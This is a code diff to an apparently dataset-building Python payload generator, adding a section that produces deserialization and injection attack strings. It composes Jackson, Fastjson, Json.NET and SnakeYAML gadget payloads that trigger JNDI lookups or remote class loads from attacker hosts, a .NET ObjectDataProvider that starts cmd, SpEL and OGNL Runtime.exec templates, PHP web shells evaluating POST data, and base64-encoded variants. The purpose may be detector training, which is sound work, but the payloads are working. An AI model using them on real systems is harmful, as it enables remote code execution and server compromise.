@@ -19,6 +19,7 @@ from __future__ import annotations
 
 import base64
 import collections
+import json
 import random
 import re
 import sys
@@ -1686,6 +1687,163 @@ def gen_java_objects(rng: random.Random, n: int) -> list[Payload]:
     return _collect(rng, n, make)
 
 
+# ------------------------------------------------- 15b. polymorphic type ids and code carried in base64
+
+# Classes that polymorphic JSON/YAML binders (Jackson default typing, Fastjson autoType, Json.NET
+# TypeNameHandling, SnakeYAML tags) have been made to instantiate, with the properties that turn
+# each into a JNDI lookup, a remote class load or a command. From the public advisories'
+# descriptions of the gadget classes; the values are composed here.
+_TYPE_GADGETS = [
+    ("com.sun.rowset.JdbcRowSetImpl", {"dataSourceName": "{jndi}", "autoCommit": True}),
+    ("org.apache.xbean.propertyeditor.JndiConverter", {"asText": "{jndi}"}),
+    ("ch.qos.logback.core.db.JNDIConnectionSource", {"jndiLocation": "{jndi}"}),
+    ("com.zaxxer.hikari.HikariConfig", {"metricRegistry": "{jndi}"}),
+    ("com.zaxxer.hikari.HikariDataSource", {"healthCheckRegistry": "{jndi}"}),
+    ("org.apache.commons.configuration.JNDIConfiguration", {"prefix": "{jndi}"}),
+    ("org.apache.commons.dbcp.datasources.SharedPoolDataSource", {"dataSourceName": "{jndi}"}),
+    ("org.apache.ibatis.datasource.jndi.JndiDataSourceFactory", {"properties": {"data_source": "{jndi}"}}),
+    ("com.mchange.v2.c3p0.JndiRefForwardingDataSource", {"jndiName": "{jndi}", "loginTimeout": 0}),
+    ("org.springframework.beans.factory.config.PropertyPathFactoryBean", {"targetBeanName": "{jndi}", "propertyPath": "x"}),
+    ("org.springframework.context.support.ClassPathXmlApplicationContext", "http://{h}/{f}.xml"),
+    ("org.springframework.context.support.FileSystemXmlApplicationContext", "http://{h}/{f}.xml"),
+    ("ch.qos.logback.core.db.DriverManagerConnectionSource",
+     {"url": "jdbc:h2:mem:;TRACE_LEVEL_SYSTEM_OUT=3;INIT=RUNSCRIPT FROM 'http://{h}/{f}.sql'"}),
+    ("com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl",
+     {"_bytecodes": ["{bytecode}"], "_name": "{f}", "_tfactory": {}, "_outputProperties": {}}),
+    ("org.apache.tomcat.dbcp.dbcp2.BasicDataSource",
+     {"driverClassLoader": {"@type": "com.sun.org.apache.bcel.internal.util.ClassLoader"}, "driverClassName": "$$BCEL$${bytecode}"}),
+    ("java.net.URL", "http://{oob}/"),
+    ("java.net.Inet4Address", {"val": "{oob}"}),
+    ("java.net.InetSocketAddress", {"address": "{oob}", "val": 80}),
+    ("java.lang.Class", {"val": "com.sun.rowset.JdbcRowSetImpl"}),
+    ("javax.swing.JEditorPane", {"page": "http://{oob}/"}),
+    ("org.apache.shiro.jndi.JndiObjectFactory", {"resourceName": "{jndi}"}),
+    ("org.apache.openjpa.ee.RegistryManagedRuntime", {"registryName": "{jndi}", "rollbackOnly": None}),
+    ("oracle.jdbc.connector.OracleManagedConnectionFactory", {"xaDataSourceName": "{jndi}"}),
+    ("org.apache.aries.transaction.jms.RecoverablePooledConnectionFactory", {"tmJndiName": "{jndi}", "tmFromJndi": True}),
+]
+_DOTNET_GADGETS = [
+    ("System.Windows.Data.ObjectDataProvider, PresentationFramework",
+     {"MethodName": "Start", "MethodParameters": {"$type": "System.Collections.ArrayList, mscorlib", "$values": ["cmd", "/c {c}"]},
+      "ObjectInstance": {"$type": "System.Diagnostics.Process, System"}}),
+    ("System.Configuration.Install.AssemblyInstaller, System.Configuration.Install", {"Path": "file:///\\\\{h}\\share\\x.dll"}),
+    ("System.Windows.Forms.BindingSource, System.Windows.Forms", {"DataMember": "x", "dataSource": {"$type": "System.Diagnostics.Process, System"}}),
+    ("System.Security.Principal.WindowsIdentity, mscorlib", {"System.Security.ClaimsIdentity.actor": "{b64obj}"}),
+]
+# Classes an expression, a binder or a class-loading parameter names to run code or reach the file
+# system and the network.
+_DANGEROUS_CLASSES = _JAVA_EXEC_CLASSES + _CC_TRANSFORMERS + [
+    "java.lang.Runtime", "java.lang.ProcessBuilder", "java.lang.ClassLoader", "java.lang.reflect.Method", "java.lang.System",
+    "java.lang.Thread", "java.io.File", "java.io.FileOutputStream", "java.io.FileInputStream", "java.io.FileWriter",
+    "java.io.ObjectInputStream", "java.io.RandomAccessFile", "java.net.Socket", "java.net.URL", "java.nio.file.Files",
+    "java.util.zip.ZipFile", "java.beans.XMLDecoder", "java.rmi.registry.LocateRegistry", "java.security.AccessController",
+    "javax.script.ScriptEngine", "javax.management.remote.JMXServiceURL", "javax.naming.Context",
+    "javax.xml.transform.TransformerFactory", "sun.misc.Unsafe", "sun.misc.BASE64Decoder", "sun.reflect.misc.MethodUtil",
+    "jdk.jshell.JShell", "jdk.nashorn.api.scripting.NashornScriptEngineFactory", "com.sun.jndi.rmi.registry.RegistryContext",
+    "com.sun.org.apache.bcel.internal.util.ClassLoader", "org.mozilla.javascript.DefiningClassLoader", "bsh.Interpreter",
+    "groovy.lang.GroovyShell", "groovy.util.Eval", "ognl.OgnlContext", "ognl.MemberAccess", "org.apache.struts2.ServletActionContext",
+    "com.opensymphony.xwork2.ActionContext", "com.opensymphony.xwork2.ognl.OgnlUtil", "org.apache.catalina.core.StandardContext",
+    "org.apache.tomcat.util.IntrospectionUtils", "org.apache.naming.factory.BeanFactory", "org.apache.log4j.net.SocketServer",
+    "org.springframework.expression.spel.standard.SpelExpressionParser", "org.springframework.util.ReflectionUtils",
+    "org.codehaus.groovy.runtime.ConvertedClosure", "org.hibernate.jmx.StatisticsService", "weblogic.jms.common.StreamMessageImpl",
+    "com.caucho.naming.QName", "com.alibaba.fastjson.JSONObject", "org.jboss.interceptor.builder.InterceptionModelBuilder",
+]
+
+
+def _type_props(rng: random.Random, props, jndi: str) -> object:
+    """The gadget's properties with its placeholders filled."""
+    fill = {"jndi": jndi, "h": _attacker_host(rng), "f": _rs(rng, rng.randint(1, 6)),
+            "oob": f"{_rs(rng, 8, 'abcdefghijklmnopqrstuvwxyz0123456789')}.{_evil_domain(rng)}",
+            "bytecode": base64.b64encode(b"\xca\xfe\xba\xbe\x00\x00\x004" + bytes(rng.randrange(256) for _ in range(rng.randint(24, 90)))).decode(),
+            "b64obj": base64.b64encode(b"\x00\x01\x00\x00\x00\xff\xff\xff\xff" + bytes(rng.randrange(256) for _ in range(40))).decode(),
+            "c": rng.choice(["calc", "whoami", "ping " + _public_ip(rng)])}
+    if isinstance(props, str):
+        return props.format(**fill)
+    if isinstance(props, dict):
+        return {k: _type_props(rng, v, jndi) for k, v in props.items()}
+    if isinstance(props, list):
+        return [_type_props(rng, v, jndi) for v in props]
+    return props
+
+
+def _jndi_url(rng: random.Random) -> str:
+    h = rng.choice([_attacker_host(rng), f"{_attacker_host(rng)}:{rng.choice([1389, 1099, 389, 8080, 636])}"])
+    return f"{rng.choice(['ldap', 'rmi', 'ldaps', 'dns', 'iiop'])}://{h}/{rng.choice(['Exploit', 'a', 'obj', _rs(rng, 6), 'Basic/Command/Base64/aWQ='])}"
+
+
+def _typed_json(rng: random.Random) -> str:
+    cls, props = rng.choice(_TYPE_GADGETS)
+    val = _type_props(rng, props, _jndi_url(rng))
+    key = rng.choice(["@type", "@type", "@class", "@c", "type", "$type", "class", "@Type"])
+    r = rng.random()
+    if r < 0.4 and isinstance(val, dict):
+        doc: object = {key: cls, **val}
+    elif r < 0.6:
+        doc = [cls, val]  # Jackson default typing, WRAPPER_ARRAY
+    elif r < 0.75 and isinstance(val, dict):
+        doc = {rng.choice(["a", "x", "rand1", "b"]): {"@type": "java.lang.Class", "val": cls}, rng.choice(["b", "y", "rand2"]): {"@type": cls, **val}}
+    elif r < 0.88:
+        doc = {rng.choice(["object", "data", "payload", "value", "config", "source", "item"]): [cls, val] if rng.random() < 0.5 or not isinstance(val, dict) else {key: cls, **val}}
+    else:
+        cls, props = rng.choice(_DOTNET_GADGETS)
+        doc = {"$type": cls, **_type_props(rng, props, _jndi_url(rng))}
+    text = json.dumps(doc, separators=rng.choice([(",", ":"), (", ", ": ")]))
+    if rng.random() < 0.15:  # Fastjson reads \u and \x escapes in keys and values
+        text = text.replace("@type", rng.choice(["\\u0040type", "\\x40type", "@\\u0074ype"]), 1)
+    return text
+
+
+def _snake_yaml(rng: random.Random) -> str:
+    url = f"http://{_attacker_host(rng)}/{_rs(rng, rng.randint(1, 6))}.jar"
+    return rng.choice([
+        f'!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["{url}"]]]]',
+        f'!!com.sun.rowset.JdbcRowSetImpl {{dataSourceName: "{_jndi_url(rng)}", autoCommit: true}}',
+        f'!!org.springframework.context.support.ClassPathXmlApplicationContext ["http://{_attacker_host(rng)}/x.xml"]',
+        f'!!java.net.URLClassLoader [[!!java.net.URL ["{url}"]]]',
+        f'x: !!org.apache.commons.configuration.ConfigurationMap [!!org.apache.commons.configuration.JNDIConfiguration [!!javax.naming.InitialContext [], "{_jndi_url(rng)}"]]',
+    ])
+
+
+def _code_to_encode(rng: random.Random) -> tuple[str, str]:
+    """A payload an application decodes from base64 and then runs or loads, with its class."""
+    c = _jcmd(rng)
+    q = rng.choice(["'", '"'])
+    return rng.choice([
+        ("deserialization", _typed_json(rng)),
+        ("deserialization", _snake_yaml(rng)),
+        ("ssti", f"T(java.lang.Runtime).getRuntime().exec({q}{c}{q})"),
+        ("ssti", f"new java.lang.ProcessBuilder({q}{c}{q}).start()"),
+        ("ssti", f"java.lang.Runtime.getRuntime().exec({q}{c}{q})"),
+        ("ssti", f"#{{''.getClass().forName({q}java.lang.Runtime{q}).getMethod({q}exec{q},''.getClass()).invoke(''.getClass().forName({q}java.lang.Runtime{q}).getRuntime(),{q}{c}{q})}}"),
+        ("jndi", "${jndi:" + _jndi_url(rng) + "}"),
+        ("cmdi", f"<?php system({q}{c}{q}); ?>"),
+        ("cmdi", f"<?php echo shell_exec($_GET[{q}{_rs(rng, 1)}{q}]); ?>"),
+        ("cmdi", f"<?php eval(base64_decode($_POST[{q}{_rs(rng, 2)}{q}])); ?>"),
+        ("cmdi", f"<?=passthru({q}{c}{q})?>"),
+    ])
+
+
+def gen_java_types(rng: random.Random, n: int) -> list[Payload]:
+    """Polymorphic type ids naming gadget classes (Jackson, Fastjson, Json.NET, SnakeYAML), bare
+    dangerous class names where an application takes a class (`class=`, `type=`, `handler=`),
+    and code an application decodes from base64 before it runs it."""
+    def make(rng):
+        r = rng.random()
+        if r < 0.4:
+            return Payload("deserialization", _typed_json(rng), "gen", "deser-typed-json", rng.choice(["any", "any", "cookie"]))
+        if r < 0.5:
+            return Payload("deserialization", _snake_yaml(rng), "gen", "deser-snakeyaml", "any")
+        if r < 0.72:
+            cls = rng.choice(_DANGEROUS_CLASSES + [g for g, _ in _TYPE_GADGETS])
+            s = rng.choice([cls, cls, cls + rng.choice(["", ".class", "#exec", "::getRuntime", ".getRuntime"]), "L" + cls.replace(".", "/") + ";"])
+            return Payload("deserialization", s, "gen", "deser-class-name", rng.choice(["any", "any", "cookie", "header"]))
+        label, code = _code_to_encode(rng)
+        raw = code.encode()
+        s = rng.choice([base64.b64encode(raw).decode(), base64.urlsafe_b64encode(raw).decode().rstrip("="), base64.b64encode(raw).decode().rstrip("=")])
+        return Payload(label, s, "gen", f"{label}:base64-code", rng.choice(["any", "any", "cookie", "header"]))
+    return _collect(rng, n, make)
+
+
 # ------------------------------------------------------- 16. session fixation by injected cookies (xss)
 
 _SESSION_COOKIES = ["JSESSIONID", "PHPSESSID", "ASPSESSIONID", "ASP.NET_SessionId", "sessionid", "session_id", "sid", "connect.sid",
@@ -1727,7 +1885,7 @@ _BASE = [
     ("prototype_pollution", gen_prototype_pollution, 900), ("node_rce", gen_node_rce, 600), ("js_obfuscation", gen_js_obfuscation, 900),
     ("sql_dialects", gen_sql_dialects, 1500), ("sql_tamper", gen_sql_tamper, 1500), ("lfi", gen_lfi, 1500),
     ("open_redirect", gen_open_redirect, 1500), ("ssi_esi", gen_ssi_esi, 700), ("xss_evasion", gen_xss_evasion, 1200),
-    ("ldap_breakout", gen_ldap_breakout, 1500), ("java_objects", gen_java_objects, 900),
+    ("ldap_breakout", gen_ldap_breakout, 1500), ("java_objects", gen_java_objects, 900), ("java_types", gen_java_types, 1400),
     ("session_fixation", gen_session_fixation, 500),
 ]
 
